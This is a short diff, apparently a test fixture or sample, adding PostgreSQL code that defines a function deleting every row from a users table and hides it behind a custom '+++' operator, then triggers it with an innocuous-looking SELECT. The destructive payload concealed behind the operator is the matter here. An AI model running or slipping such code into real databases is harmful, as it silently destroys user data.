@@ -1,0 +1,3 @@
+CREATE FUNCTION wipe(int, text) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN 1; END $$;
+CREATE OPERATOR +++ (LEFTARG = int, RIGHTARG = text, FUNCTION = wipe);
+SELECT 1 +++ 'a';
